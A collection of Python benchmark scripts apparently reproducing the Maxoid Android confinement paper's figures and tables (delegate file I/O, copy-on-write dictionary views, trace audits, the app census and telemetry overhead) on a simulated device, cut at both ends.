    path = f"/data/data/{EMAIL}/attachments/{attachment_id}/book.pdf"

    def open_as_delegate():
        delegate = env.spawn(EBOOK, initiator=EMAIL)
        return ebook.main(delegate, Intent(Intent.ACTION_VIEW, extras={"path": path}))

    result = benchmark(open_as_delegate)
    assert "book.pdf" in result["recent"]
