"""Figure 6: the delta table and COW view, with the figure's exact data.

Primary table: (1,a) (2,b) (3,c). Delta table for A: (2,b,whiteout=1),
(3,d,0), (10000001,e,0). Expected COW view: (1,a) (3,d) (10000001,e).

The bench builds the figure verbatim through the proxy's trigger SQL and
times the view query under the flattened and materialized planner paths.
"""

from __future__ import annotations

import pytest

from repro.minisql import Database
from repro.minisql.planner import FLATTEN_NEVER_WITH_ORDER_BY, FLATTEN_ORDER_BY_SUBSET


def build_figure6(emulation=FLATTEN_ORDER_BY_SUBSET):
    db = Database(sqlite_emulation=emulation)
    db.execute("CREATE TABLE tab1 (_id INTEGER PRIMARY KEY, data TEXT)")
    db.executemany(
        "INSERT INTO tab1 (_id, data) VALUES (?, ?)", [(1, "a"), (2, "b"), (3, "c")]
    )
    db.execute(
        "CREATE TABLE tab1_delta_A (_id INTEGER PRIMARY KEY, data TEXT, "
        "_whiteout INTEGER DEFAULT 0)"
    )
    db.table("tab1_delta_A").set_autoincrement_base(10_000_001)
    db.executemany(
        "INSERT INTO tab1_delta_A (_id, data, _whiteout) VALUES (?, ?, ?)",
        [(2, "b", 1), (3, "d", 0)],
    )
    db.execute("INSERT INTO tab1_delta_A (data) VALUES ('e')")
    db.execute(
        "CREATE VIEW tab1_view_A AS "
        "SELECT _id, data FROM tab1 WHERE _id NOT IN (SELECT _id FROM tab1_delta_A) "
        "UNION ALL SELECT _id, data FROM tab1_delta_A WHERE _whiteout = 0"
    )
    db.execute(
        "CREATE TRIGGER tab1_A_update INSTEAD OF UPDATE ON tab1_view_A BEGIN "
        "INSERT OR REPLACE INTO tab1_delta_A (_id, data, _whiteout) "
        "VALUES (OLD._id, NEW.data, 0); END"
    )
    return db


@pytest.mark.benchmark(group="fig6-view-query")
def bench_figure6_view_contents(benchmark):
    db = build_figure6()
    result = benchmark(db.execute, "SELECT * FROM tab1_view_A ORDER BY _id")
    assert result.rows == [(1, "a"), (3, "d"), (10_000_001, "e")]
    assert db.stats.flattened_queries > 0  # '*' queries always flatten


@pytest.mark.benchmark(group="fig6-view-query")
def bench_figure6_view_query_materialized(benchmark):
    """The same query forced down the materializing path (SQLite 3.7.11
    emulation, non-* projection with ORDER BY)."""
    db = build_figure6(emulation=FLATTEN_NEVER_WITH_ORDER_BY)
    result = benchmark(db.execute, "SELECT data FROM tab1_view_A ORDER BY _id")
    assert [r[0] for r in result.rows] == ["a", "d", "e"]
    assert db.stats.flattened_queries == 0
    assert db.stats.materialized_views > 0


@pytest.mark.benchmark(group="fig6-trigger")
def bench_figure6_instead_of_update(benchmark):
    """The INSTEAD OF UPDATE trigger's copy-on-write path."""
    db = build_figure6()
    state = {"i": 0}

    def update():
        state["i"] += 1
        db.execute("UPDATE tab1_view_A SET data = ? WHERE _id = 1", [f"a{state['i']}"])

    benchmark(update)
    assert db.execute("SELECT data FROM tab1 WHERE _id = 1").scalar() == "a"
