"""Fleet observability benchmark: aggregation cost + sampled-on overhead.

Measures what the fleet telemetry plane itself costs, at a small fleet
scale (N devices with isolated ObsContexts, each loaded with the same
delegate workload):

- ``fleet_merge``        — merging N per-device registry snapshots into
  the fleet-wide totals (:meth:`FleetTelemetry.merged_metrics`);
- ``fleet_prom_export``  — the device-labeled Prometheus exposition over
  the whole fleet;
- ``fleet_health``       — building + rendering the ``fleet_health()``
  report;
- ``sampled_write_4kb``  — a delegate file write with tracing enabled at
  ``sample_rate=0.1`` (the always-on fleet configuration), against
  ``traced_write_4kb`` (rate 1.0) and ``disabled_write_4kb`` (off): the
  sampled-on overhead the zero-cost gate acceptance tracks.

Results land in the ``fleet`` section of ``BENCH_perf.json`` (same
median/MAD shape the regression gate consumes), so once baselined the
trajectory tracks fleet-plane regressions like any other op.

Usage::

    PYTHONPATH=src python benchmarks/bench_fleet_obs.py \
        [--devices N] [--trials N] [--out BENCH_perf.json]
"""

from __future__ import annotations

import argparse
import os
import sys

if __package__ in (None, ""):
    sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro import AndroidManifest, Device  # noqa: E402
from repro.obs.artifacts import update_bench_json  # noqa: E402
from repro.obs.fleet import FleetTelemetry  # noqa: E402
from repro.workloads.generators import deterministic_bytes  # noqa: E402
from repro.workloads.harness import measure  # noqa: E402

APP = "com.fleet.app"
INITIATOR = "com.fleet.initiator"

DEFAULT_OUT = "BENCH_perf.json"
DEFAULT_DEVICES = 8


def _loaded_device(index: int) -> Device:
    """One device with its own context, enabled, plus a little workload
    so every registry has realistic counter/histogram content."""
    device = Device(maxoid_enabled=True, device_id=f"dev{index}")
    device.obs.enable()
    device.install(AndroidManifest(package=APP))
    device.install(AndroidManifest(package=INITIATOR))
    payload = deterministic_bytes(1024)
    api = device.spawn(APP, initiator=INITIATOR)
    for step in range(8):
        api.write_internal(f"bench/f{step}.bin", payload)
        api.sys.read_file(f"/data/data/{APP}/bench/f{step}.bin")
    return device


def fleet_measurements(n_devices: int, trials: int) -> dict:
    results: dict = {}
    fleet = FleetTelemetry()
    devices = [_loaded_device(index) for index in range(n_devices)]
    for device in devices:
        fleet.register_device(device)

    results["fleet_merge"] = measure(
        fleet.merged_metrics, trials=trials, label="fleet_merge"
    )
    results["fleet_prom_export"] = measure(
        fleet.to_prometheus_text, trials=trials, label="fleet_prom_export"
    )
    results["fleet_health"] = measure(
        lambda: fleet.fleet_health().render(), trials=trials, label="fleet_health"
    )

    # Sampled-on overhead: the same delegate write under three tracing
    # configurations on one device. Sampling keeps the ring bounded, so
    # the measured op runs at fleet steady-state, not into a growing ring.
    device = devices[0]
    payload = deterministic_bytes(4096)
    api = device.spawn(APP, initiator=INITIATOR)
    state = {"i": 0}

    def write_4kb():
        state["i"] += 1
        api.write_internal(f"bench/s{state['i'] % 64}.bin", payload)

    device.obs.disable()
    results["disabled_write_4kb"] = measure(
        write_4kb, trials=trials, label="disabled_write_4kb"
    )
    device.obs.enable(ring_capacity=4096, sample_rate=1.0, sample_seed=7)
    results["traced_write_4kb"] = measure(
        write_4kb, trials=trials, label="traced_write_4kb"
    )
    device.obs.enable(ring_capacity=4096, sample_rate=0.1, sample_seed=7)
    results["sampled_write_4kb"] = measure(
        write_4kb, trials=trials, label="sampled_write_4kb"
    )
    device.obs.disable()
    return results


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--devices", type=int, default=DEFAULT_DEVICES)
    parser.add_argument("--trials", type=int, default=30, help="trials per op")
    parser.add_argument("--out", default=DEFAULT_OUT, help="artifact path")
    args = parser.parse_args(argv)
    results = fleet_measurements(args.devices, args.trials)
    update_bench_json(
        args.out, "fleet", {op: m.as_dict() for op, m in sorted(results.items())}
    )
    width = max(len(op) for op in results)
    print(
        f"-- fleet obs bench ({args.devices} devices, {args.trials} trials/op)"
        f" -> {args.out} --"
    )
    for op, m in sorted(results.items()):
        print(f"  {op:<{width}}  median {m.median_ms:8.3f} ms  mad {m.mad_ms:7.3f} ms")
    disabled = results["disabled_write_4kb"].median_ms
    if disabled > 0:
        for op in ("sampled_write_4kb", "traced_write_4kb"):
            pct = (results[op].median_ms - disabled) / disabled * 100.0
            print(f"  {op} overhead vs disabled: {pct:+.1f}%")
    return 0


if __name__ == "__main__":
    sys.exit(main())
