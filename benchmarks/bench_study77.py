"""The 77-app compatibility census as a benchmark (paper section 7.1).

"Out of the 77 data processing apps we analyzed in §2, only three
(DocuSign, EasySign and ThinkTI Document Converter) cannot work when they
run as delegates, due to loss of network connection."

The bench times the full census (install 77 apps, run each once as a
delegate, classify) and asserts the 74/77 split.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device
from repro.apps.fleet import NETWORK_DEPENDENT, run_fleet_as_delegates

INITIATOR = "com.census.initiator"


class _Nop:
    def main(self, api, intent):
        return None


@pytest.mark.benchmark(group="study77-census")
def bench_compatibility_census(benchmark):
    def census():
        device = Device(maxoid_enabled=True)
        device.install(AndroidManifest(package=INITIATOR), _Nop())
        owner = device.spawn(INITIATOR)
        path = owner.write_internal("docs/target.pdf", b"census payload")
        return run_fleet_as_delegates(device, INITIATOR, path)

    worked, failed = benchmark(census)
    assert len(worked) == 74
    assert set(failed) == NETWORK_DEPENDENT
    print(f"\n[study77] {len(worked)}/77 apps work as delegates; "
          f"failures (network loss): {sorted(failed)}")


@pytest.mark.benchmark(group="study77-census")
def bench_census_with_trusted_cloud(benchmark):
    """With the trusted-cloud extension, the three networked apps work too."""

    def census():
        device = Device(maxoid_enabled=True)
        device.install(AndroidManifest(package=INITIATOR), _Nop())
        owner = device.spawn(INITIATOR)
        path = owner.write_internal("docs/target.pdf", b"census payload")
        cloud = device.network.enable_trusted_cloud()
        for package in NETWORK_DEPENDENT:
            cloud.register_backend(package, f"{package}.example")
        return run_fleet_as_delegates(device, INITIATOR, path)

    worked, failed = benchmark(census)
    assert len(worked) == 77 and failed == []
