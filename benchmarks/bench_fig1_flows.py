"""Figure 1: the confinement overview.

The figure shows which read/write arrows exist between A, B^A and the
Priv/Pub/Vol states. The benchmark executes the full flow matrix (11
attempted flows) on a fresh device and asserts every arrow matches the
figure — present arrows succeed, absent arrows are blocked.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device
from repro.core.audit import figure1_flow_matrix

A = "com.fig1.initiator"
B = "com.fig1.delegate"


class _Nop:
    def main(self, api, intent):
        return None


@pytest.mark.benchmark(group="fig1-flow-matrix")
def bench_flow_matrix(benchmark):
    def run():
        device = Device(maxoid_enabled=True)
        device.install(AndroidManifest(package=A), _Nop())
        device.install(AndroidManifest(package=B), _Nop())
        device.network.add_host("example.com")
        return figure1_flow_matrix(device, A, B)

    checks = benchmark(run)
    assert len(checks) == 11
    failures = [c for c in checks if not c.ok]
    assert not failures, failures
    print("\nFigure 1 flow matrix:")
    for check in checks:
        arrow = "allowed" if check.observed else "blocked"
        print(f"  {check.description}: {arrow} (matches figure: {check.ok})")


@pytest.mark.benchmark(group="fig1-flow-matrix")
def bench_flow_matrix_stock_android(benchmark):
    """The same attempts on stock Android: the forbidden flows mostly
    succeed — the motivation for Maxoid. (Delegation does not exist on
    stock, so instances run unconfined.)"""

    def run():
        device = Device(maxoid_enabled=False)
        device.install(AndroidManifest(package=A), _Nop())
        device.install(AndroidManifest(package=B), _Nop())
        device.network.add_host("example.com")
        a = device.spawn(A)
        b = device.spawn(B)  # "B^A" does not exist on stock; B is unconfined
        a.write_external("fig1/doc.txt", b"shared secret")
        b.sys.write_file("/storage/sdcard/fig1/doc.txt", b"overwritten!")
        overwrote = a.sys.read_file("/storage/sdcard/fig1/doc.txt") == b"overwritten!"
        reached_network = True
        try:
            b.connect("example.com")
        except Exception:
            reached_network = False
        return overwrote, reached_network

    overwrote, reached_network = benchmark(run)
    assert overwrote, "stock Android lets the helper overwrite in place"
    assert reached_network, "stock Android gives the helper the network"
