"""The micro perf suite behind the regression gate.

Runs a small, fast set of microbenchmarks over the hot paths the paper's
Tables 3-5 care about — file I/O through the delegate's Aufs view,
dictionary-provider operations through the SQLite COW proxy, and the
delegate launch itself — and writes a ``BENCH_perf.json`` artifact
(:mod:`repro.obs.artifacts` conventions: sections + stamped ``run``
metadata). Each op records its median and MAD over the trials, which is
exactly what ``benchmarks/regress.py`` needs for its noise-aware
median ± k·MAD comparison against the committed baseline.

A traced pass with ``OBS.profile`` armed contributes two more sections:
per-layer self-times (``layers``) and the critical-path / per-span
latency-quantile report (``profile``), so the artifact answers both
"did it get slower" and "where does the time go".

Usage::

    PYTHONPATH=src python benchmarks/perf_suite.py [--trials N] [--out PATH]

Recording a fresh baseline is just running the suite and committing the
output as ``benchmarks/BENCH_baseline.json``.
"""

from __future__ import annotations

import argparse
import sys

from repro import AndroidManifest, Device, Intent
from repro.android.content.provider import ContentValues
from repro.android.uri import Uri
from repro.obs import OBS, critical_paths, latency_summary
from repro.obs.artifacts import layer_section, latency_section, update_bench_json
from repro.workloads.generators import deterministic_bytes, make_dictionary_words
from repro.workloads.harness import Measurement, measure

APP = "com.perf.app"
INITIATOR = "com.perf.initiator"
WORDS = Uri.content("user_dictionary", "words")

DEFAULT_OUT = "BENCH_perf.json"


class _Worker:
    """Delegate workload touching every layer: file copy-up, external
    write, and one provider insert through the COW proxy."""

    def main(self, api, intent):
        api.sys.append_file("/storage/sdcard/shared/report.txt", b" note")
        api.write_external("out/result.bin", b"r" * 4096)
        api.insert(WORDS, ContentValues({"word": "profiled", "frequency": 1}))
        return "done"


def _device() -> Device:
    device = Device(maxoid_enabled=True)
    device.install(AndroidManifest(package=APP), _Worker())
    device.install(AndroidManifest(package=INITIATOR), _Worker())
    seed = device.spawn(INITIATOR)
    seed.sys.makedirs("/storage/sdcard/shared")
    seed.sys.write_file("/storage/sdcard/shared/report.txt", b"p" * 65536)
    return device


def micro_measurements(trials: int) -> dict:
    """The gate's metric set: delegate-view file ops, COW dict ops, cpu
    control, and the delegate launch. Returns ``{op: Measurement}``."""
    results: dict = {}

    # CPU control: identical code under any configuration; a regression
    # here means the machine, not the repo, so the gate's budget is wide.
    def cpu_op():
        total = 0
        for i in range(2000):
            total = (total * 31 + i) % 1000003
        return total

    results["cpu_loop"] = measure(cpu_op, trials=trials, label="cpu_loop")

    # File I/O through the delegate's per-initiator Aufs view.
    device = _device()
    payload = deterministic_bytes(4096)
    owner = device.spawn(APP)
    for index in range(64):
        owner.write_internal(f"bench/pre{index}.bin", payload)
    api = device.spawn(APP, initiator=INITIATOR)
    state = {"i": 0}

    def read_4kb():
        state["i"] += 1
        api.sys.read_file(f"/data/data/{APP}/bench/pre{state['i'] % 64}.bin")

    def write_4kb():
        state["i"] += 1
        api.write_internal(f"bench/w{state['i']}.bin", payload)

    def append_4kb():
        state["i"] += 1
        api.sys.append_file(f"/data/data/{APP}/bench/pre{state['i'] % 64}.bin", b"+x")

    results["delegate_read_4kb"] = measure(read_4kb, trials=trials, label="delegate_read_4kb")
    results["delegate_write_4kb"] = measure(write_4kb, trials=trials, label="delegate_write_4kb")
    results["delegate_append_4kb"] = measure(append_4kb, trials=trials, label="delegate_append_4kb")

    # Dictionary provider through the SQLite COW proxy.
    device = _device()
    owner = device.spawn(INITIATOR)
    for word in make_dictionary_words(500):
        owner.insert(WORDS, ContentValues({"word": word}))
    api = device.spawn(APP, initiator=INITIATOR)

    def dict_insert():
        state["i"] += 1
        api.insert(WORDS, ContentValues({"word": f"new{state['i']}"}))

    def dict_query_one():
        state["i"] += 1
        api.query(WORDS.with_appended_id((state["i"] % 500) + 1), projection=["word"])

    results["cow_dict_insert"] = measure(dict_insert, trials=trials, label="cow_dict_insert")
    results["cow_dict_query_1"] = measure(dict_query_one, trials=trials, label="cow_dict_query_1")

    # The whole delegate invocation (AM -> Zygote -> workload).
    launch_device = _device()
    intent = Intent(Intent.ACTION_VIEW, extras={})

    def delegate_launch():
        launch_device.launch_as_delegate(APP, INITIATOR, intent)

    results["delegate_launch"] = measure(
        delegate_launch, trials=max(5, trials // 4), label="delegate_launch"
    )
    return results


def profiled_sections(invocations: int = 5) -> tuple:
    """One traced, profiled delegate workload: the per-layer self-time
    section plus the critical-path / latency-quantile section."""
    device = _device()
    intent = Intent(Intent.ACTION_VIEW, extras={})
    with OBS.capture(ring_capacity=65536, profile=True) as obs:
        for _ in range(invocations):
            device.launch_as_delegate(APP, INITIATOR, intent)
        spans = obs.spans()
        trees = obs.trees()
        snapshot = obs.metrics.snapshot()
    layers = layer_section(spans)
    reports = critical_paths(trees, min_ms=0.0)
    # The launch roots (am.*) are the invocations; report the slowest.
    launch_reports = [r for r in reports if r.root.startswith("am.")] or reports
    profile = {
        "invocations": len(launch_reports),
        "critical_path": launch_reports[0].to_dict() if launch_reports else {},
        "min_coverage": round(
            min((r.coverage for r in launch_reports), default=1.0), 6
        ),
        "latency": latency_section(snapshot),
    }
    return layers, profile


def write_artifact(path: str, measurements: dict, layers: dict, profile: dict) -> None:
    update_bench_json(
        path, "micro", {op: m.as_dict() for op, m in sorted(measurements.items())}
    )
    update_bench_json(path, "layers", layers)
    update_bench_json(path, "profile", profile)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--trials", type=int, default=30, help="trials per micro-op")
    parser.add_argument("--out", default=DEFAULT_OUT, help="artifact path")
    args = parser.parse_args(argv)
    measurements = micro_measurements(args.trials)
    layers, profile = profiled_sections()
    write_artifact(args.out, measurements, layers, profile)
    width = max(len(op) for op in measurements)
    print(f"-- perf suite ({args.trials} trials/op) -> {args.out} --")
    for op, m in sorted(measurements.items()):
        print(f"  {op:<{width}}  median {m.median_ms:8.3f} ms  mad {m.mad_ms:7.3f} ms")
    coverage = profile.get("min_coverage", 0.0)
    print(f"  critical-path coverage over launches: {coverage * 100.0:.1f}%")
    return 0


if __name__ == "__main__":
    sys.exit(main())
