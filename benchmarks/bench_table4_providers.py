"""Table 4: Downloads and Media provider workloads.

Paper rows: (1) download 100 × 1 KB files; (2) scan 100 × ~780 KB images
storing metadata into the Media provider. Columns: unmodified Android,
Maxoid to public state, Maxoid to volatile state. Expected shape: all
three within noise of each other (the paper reports no overhead).

The image count is scaled down by IMAGE_SCALE for benchmark round time;
the full-size run lives in report_tables.py.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device
from repro.workloads.generators import (
    deterministic_bytes,
    make_image_files,
    publish_download_set,
)

APP = "com.bench.tester"
HOST = "bench.example.com"
DOWNLOAD_COUNT = 100
IMAGE_COUNT = 20  # scaled from the paper's 100 for bench round time
IMAGE_SIZE = 64 * 1024  # scaled from 780 KB


class _Nop:
    def main(self, api, intent):
        return None


def make_env(maxoid: bool):
    device = Device(maxoid_enabled=maxoid)
    device.install(AndroidManifest(package=APP), _Nop())
    publish_download_set(device, count=DOWNLOAD_COUNT, host=HOST)
    return device


@pytest.mark.parametrize(
    "setup",
    ["android", "maxoid-public", "maxoid-volatile"],
)
@pytest.mark.benchmark(group="table4-download-100x1kb")
def bench_download_100_files(benchmark, setup):
    """Download 100 1KB files via DownloadManager (paper Table 4 row 1)."""
    maxoid = setup != "android"
    volatile = setup == "maxoid-volatile"

    def run():
        device = make_env(maxoid)
        api = device.spawn(APP)
        for index in range(DOWNLOAD_COUNT):
            api.enqueue_download(
                f"https://{HOST}/dl{index:04d}.bin", f"dl{index:04d}.bin", volatile=volatile
            )
        done = device.run_downloads()
        assert done == DOWNLOAD_COUNT
        return device

    device = benchmark(run)
    # Verify placement semantics.
    observer = device.spawn(APP)
    if volatile:
        assert not observer.sys.exists("/storage/sdcard/Download/dl0000.bin")
        assert observer.sys.exists("/storage/sdcard/tmp/Download/dl0000.bin")
    else:
        assert observer.sys.exists("/storage/sdcard/Download/dl0000.bin")


@pytest.mark.parametrize(
    "setup",
    ["android", "maxoid-public", "maxoid-volatile"],
)
@pytest.mark.benchmark(group="table4-media-scan")
def bench_scan_images(benchmark, setup):
    """Scan images into the Media provider (paper Table 4 row 2).

    The paper's tester runs as an initiator for the public case and as an
    initiator using its volatile state for the volatile case.
    """
    maxoid = setup != "android"
    volatile = setup == "maxoid-volatile"

    def run():
        device = make_env(maxoid)
        api = device.spawn(APP)
        paths = make_image_files(api, count=IMAGE_COUNT, size=IMAGE_SIZE)
        for path in paths:
            api.scan_media(path, volatile=volatile)
        return device

    device = benchmark(run)
    api = device.spawn(APP)
    from repro.android.uri import Uri

    public_rows = api.query(Uri.content("media", "files")).rows
    if volatile:
        assert public_rows == []
        assert len(api.query(Uri.content("media", "files").to_volatile()).rows) == IMAGE_COUNT
    else:
        assert len(public_rows) == IMAGE_COUNT
