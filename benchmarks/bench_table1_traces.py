"""Table 1: state left after apps process their target data.

For each app category the bench runs the representative operation twice —
on stock Android and under Maxoid confinement — and audits the traces the
paper's table lists. The benchmark times the full operation (the paper's
point is that confinement does not change what the app *does*, only where
its state lands); assertions verify the trace pattern.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device, Intent
from repro.android.uri import Uri
from repro.apps import install_standard_apps
from repro.core.audit import find_marker_in_files

MARKER = b"MARKER-table1"

EMAIL = "com.android.email"
ADOBE = "com.adobe.reader"
OFFICE = "cn.wps.moffice"
SCANNER = "com.google.zxing.client.android"
CAMSCANNER = "com.intsig.camscanner"
CAMERA = "com.magix.camera_mx"
VPLAYER = "me.abitno.vplayer.t"
WRAPPER = "org.maxoid.wrapper"


def fresh_env(maxoid: bool):
    device = Device(maxoid_enabled=maxoid)
    device.apps = install_standard_apps(device)
    return device


@pytest.fixture(params=["android", "maxoid"])
def mode(request):
    return request.param


def _confined(env, mode, package, intent):
    """Run the app on the document either normally (stock) or as the
    wrapper's delegate (Maxoid)."""
    wrapper = env.spawn(WRAPPER)
    env.apps[WRAPPER].add_document(wrapper, "target.pdf", MARKER)
    path = "/storage/sdcard/wrapper-vault/target.pdf"
    intent.extras["path"] = path
    if mode == "maxoid":
        intent.component = package
        return env.am.start_activity(wrapper.process, intent)
    app = env.spawn(package)
    result = env.apps[package].main(app, intent)
    return result


@pytest.mark.benchmark(group="table1-document")
def bench_document_viewer_traces(benchmark, mode):
    """Row 1: XML recents (private) + SD copy (public, via content URI)."""
    env = fresh_env(maxoid=mode == "maxoid")

    def run():
        email = env.spawn(EMAIL)
        attachment_id = env.apps[EMAIL].receive_attachment(email, "doc.pdf", MARKER)
        return env.apps[EMAIL].view_attachment(email, attachment_id)

    benchmark(run)
    observer = env.spawn(SCANNER)
    public_hits = find_marker_in_files(observer, MARKER, roots=["/storage/sdcard"])
    recents = env.spawn(ADOBE).prefs.get("recent_files")
    if mode == "android":
        assert public_hits and recents
    else:
        assert not public_hits and recents is None


@pytest.mark.benchmark(group="table1-scanner")
def bench_scanner_traces(benchmark, mode):
    """Row 2: recent-scans DB (private)."""
    env = fresh_env(maxoid=mode == "maxoid")
    intent = Intent(Intent.ACTION_SCAN, extras={"qr_payload": "MARKER-url"})

    def run():
        if mode == "maxoid":
            return env.launch_as_delegate(SCANNER, "com.android.browser", intent)
        return env.apps[SCANNER].main(env.spawn(SCANNER), intent)

    benchmark(run)
    history = env.apps[SCANNER].recent_scans(env.spawn(SCANNER))
    if mode == "android":
        assert "MARKER-url" in history
    else:
        assert history == []


@pytest.mark.benchmark(group="table1-camscanner")
def bench_camscanner_traces(benchmark, mode):
    """Row 2b: CamScanner's image + thumbnail + log on the SD card."""
    env = fresh_env(maxoid=mode == "maxoid")

    def run():
        return _confined(env, mode, CAMSCANNER, Intent(Intent.ACTION_SCAN, extras={}))

    benchmark(run)
    observer = env.spawn(ADOBE)
    log_public = observer.sys.exists("/storage/sdcard/CamScanner/scanner.log")
    assert log_public == (mode == "android")


@pytest.mark.benchmark(group="table1-photo")
def bench_camera_traces(benchmark, mode):
    """Row 3: photo file on SD + Media provider entry."""
    env = fresh_env(maxoid=mode == "maxoid")
    intent = Intent(Intent.ACTION_IMAGE_CAPTURE, extras={"frame": MARKER})
    results = []

    def run():
        if mode == "maxoid":
            results.append(env.launch_as_delegate(CAMERA, WRAPPER, intent).result)
        else:
            results.append(env.apps[CAMERA].main(env.spawn(CAMERA), intent))

    benchmark(run)
    observer = env.spawn(ADOBE)
    photo_public = observer.sys.exists(results[-1]["path"])
    media_rows = observer.query(Uri.content("media", "files")).rows
    if mode == "android":
        assert photo_public and media_rows
    else:
        assert not photo_public and not media_rows


@pytest.mark.benchmark(group="table1-media")
def bench_vplayer_traces(benchmark, mode):
    """Row 4: playback history DB (private) + thumbnail on SD (public)."""
    env = fresh_env(maxoid=mode == "maxoid")
    results = []

    def run():
        results.append(
            _confined(env, mode, VPLAYER, Intent(Intent.ACTION_VIEW, extras={}))
        )

    benchmark(run)
    result = results[-1].result if mode == "maxoid" else results[-1]
    observer = env.spawn(ADOBE)
    thumb_public = observer.sys.exists(result["thumbnail"])
    history = env.apps[VPLAYER].playback_history(env.spawn(VPLAYER))
    if mode == "android":
        assert thumb_public and history
    else:
        assert not thumb_public and history == []
