"""Table 3: microbenchmark overheads.

Paper columns: CPU-bound operations; internal file system read/write/
append at 4 KB and 1 MB; User Dictionary insert/update/query-1/query-1k/
delete — each for the initiator and the delegate, relative to stock
Android.

Each parametrized benchmark runs the identical operation under the three
configurations; pytest-benchmark's comparison table is the reproduction of
Table 3 (expected shape: android ≈ initiator < delegate, append worst).
"""

from __future__ import annotations

import pytest

from repro.android.content.provider import ContentValues
from repro.android.uri import Uri
from repro.workloads.generators import LARGE_FILE, SMALL_FILE, deterministic_bytes, make_dictionary_words

WORDS = Uri.content("user_dictionary", "words")

SIZES = {"4kb": SMALL_FILE, "1mb": LARGE_FILE}


@pytest.mark.benchmark(group="table3-cpu")
def bench_cpu_bound(benchmark, bench_api, config):
    """CPU-bound operations: no I/O, so no configuration should differ."""

    def matrix_multiply():
        size = 24
        a = [[(i * j + 1) % 7 for j in range(size)] for i in range(size)]
        b = [[(i + j) % 5 for j in range(size)] for i in range(size)]
        return [
            [sum(a[i][k] * b[k][j] for k in range(size)) for j in range(size)]
            for i in range(size)
        ]

    result = benchmark(matrix_multiply)
    assert result[0][0] >= 0


def _prepared_files(api, size, count=8):
    payload = deterministic_bytes(size)
    paths = []
    for index in range(count):
        paths.append(api.write_internal(f"bench/file{index}.bin", payload))
    return paths


@pytest.mark.parametrize("size_name", ["4kb", "1mb"])
@pytest.mark.benchmark(group="table3-fs-read")
def bench_internal_read(benchmark, bench_api, size_name):
    """Internal FS read: the delegate pays the two-branch lookup."""
    paths = _prepared_files(bench_api, SIZES[size_name])
    state = {"i": 0}

    def read_one():
        path = paths[state["i"] % len(paths)]
        state["i"] += 1
        return bench_api.sys.read_file(path)

    data = benchmark(read_one)
    assert len(data) == SIZES[size_name]


@pytest.mark.parametrize("size_name", ["4kb", "1mb"])
@pytest.mark.benchmark(group="table3-fs-write")
def bench_internal_write(benchmark, bench_api, size_name):
    """Internal FS write (create + write a fresh file)."""
    payload = deterministic_bytes(SIZES[size_name])
    state = {"i": 0}

    def write_one():
        state["i"] += 1
        bench_api.write_internal(f"bench/out{state['i']}.bin", payload)

    benchmark(write_one)


@pytest.mark.parametrize("size_name", ["4kb", "1mb"])
@pytest.mark.benchmark(group="table3-fs-append")
def bench_internal_append(benchmark, bench_device, config, size_name):
    """Append to pre-existing files: the delegate's worst case (copy-up).

    Pre-existing means the files live in Priv(B) before confinement —
    created by a *normal* run of the app — so a delegate's append must
    copy the whole file to its writable branch first (paper 7.2.1).
    """
    from benchmarks.conftest import BENCH_APP, spawn_for

    payload = deterministic_bytes(SIZES[size_name])
    normal = bench_device.spawn(BENCH_APP)
    for index in range(512):
        normal.write_internal(f"bench/pre{index}.bin", payload)
    api = spawn_for(bench_device, config)
    state = {"i": 0}

    def append_one():
        bench_api_path = f"/data/data/{BENCH_APP}/bench/pre{state['i'] % 512}.bin"
        state["i"] += 1
        api.sys.append_file(bench_api_path, b"+tail")

    benchmark(append_one)


def _dictionary(device, rows=1000):
    """Populate the public dictionary (1000 rows), as the paper's setup:
    the table pre-exists in Pub(all) before the measured app touches it."""
    from benchmarks.conftest import BENCH_INITIATOR

    owner = device.spawn(BENCH_INITIATOR)
    for word in make_dictionary_words(rows):
        owner.insert(WORDS, ContentValues({"word": word}))


@pytest.mark.benchmark(group="table3-dict-insert")
def bench_dict_insert(benchmark, bench_device, bench_api):
    """User Dictionary insert (1000-row table)."""
    _dictionary(bench_device)
    state = {"i": 0}

    def insert_one():
        state["i"] += 1
        bench_api.insert(WORDS, ContentValues({"word": f"inserted{state['i']}"}))

    benchmark(insert_one)


@pytest.mark.benchmark(group="table3-dict-update")
def bench_dict_update(benchmark, bench_device, bench_api):
    """Update: for delegates the first updates populate the delta table
    (copy-on-write), as in the paper's methodology."""
    _dictionary(bench_device)
    state = {"i": 0}

    def update_one():
        row = (state["i"] % 1000) + 1
        state["i"] += 1
        bench_api.update(
            WORDS.with_appended_id(row), ContentValues({"frequency": state["i"]})
        )

    benchmark(update_one)


@pytest.mark.benchmark(group="table3-dict-query1")
def bench_dict_query_one(benchmark, bench_device, bench_api, config):
    """Query one word by ID URI; for delegates, after updates exist so the
    query spans primary and delta tables."""
    _dictionary(bench_device)
    if config == "delegate":
        for row in range(1, 101):
            bench_api.update(WORDS.with_appended_id(row), ContentValues({"frequency": 2}))
    state = {"i": 0}

    def query_one():
        row = (state["i"] % 1000) + 1
        state["i"] += 1
        return bench_api.query(WORDS.with_appended_id(row), projection=["word"])

    result = benchmark(query_one)
    assert len(result.rows) == 1


@pytest.mark.benchmark(group="table3-dict-query1k")
def bench_dict_query_all(benchmark, bench_device, bench_api, config):
    """Query all 1000 words (the paper's query-1k-words column)."""
    _dictionary(bench_device)
    if config == "delegate":
        for row in range(1, 101):
            bench_api.update(WORDS.with_appended_id(row), ContentValues({"frequency": 2}))

    def query_all():
        return bench_api.query(WORDS, projection=["word"], order_by="_id")

    result = benchmark(query_all)
    assert len(result.rows) == 1000


@pytest.mark.benchmark(group="table3-dict-delete")
def bench_dict_delete(benchmark, bench_device, bench_api):
    """Delete by ID (whiteout creation for delegates)."""
    _dictionary(bench_device, rows=1000)
    state = {"i": 0}

    def delete_one():
        row = (state["i"] % 1000) + 1
        state["i"] += 1
        return bench_api.delete(WORDS.with_appended_id(row))

    benchmark(delete_one)
