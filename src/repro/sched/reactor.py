"""Seeded deterministic scheduler: the cooperative reactor.

One :class:`SchedTask` is one actor-style flow of control — in the
interleaving sweep, one simulated process's op track. Tasks run on real
threads but strictly one at a time: each parks on a per-task baton at
every *yield point* (the kernel boundaries in syscall/binder/aufs/
